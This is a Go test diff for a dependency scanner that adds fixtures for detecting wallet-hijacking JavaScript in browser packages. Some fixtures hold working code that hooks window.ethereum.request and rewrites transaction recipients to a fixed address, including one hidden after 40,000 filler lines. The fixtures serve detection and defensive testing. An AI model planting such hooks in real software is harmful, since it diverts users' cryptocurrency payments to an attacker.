@@ -1,6 +1,7 @@
 package browser
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/depfence/depfence/internal/finding"
@@ -26,6 +27,12 @@ const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a))
 if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { if (x.method === "eth_sendTransaction") x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
 		// a wallet library: a validator and a contract address, no hook
 		{"wallet_library", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/; export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; export const valid = s => re.test(s)`}, finding.SeverityNone},
+		// the same swap appended to a bundle: the address sits by the hook
+		{"bundle_swap", map[string]string{"index.js": strings.Repeat("var a = b + c;\n", 40000) + `const re = /0x[a-fA-F0-9]{40}/g;
+if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
+		// a bundle whose provider shim and token list are far apart
+		{"bundle_apart", map[string]string{"index.js": `export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; const re = /0x[a-fA-F0-9]{40}/;` + strings.Repeat("var a = b + c;\n", 40000) +
+			`window.ethereum = provider;`}, finding.SeverityNone},
 		{"address_validator", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/; export const valid = s => eth.test(s)`}, finding.SeverityNone},
 	})
 }
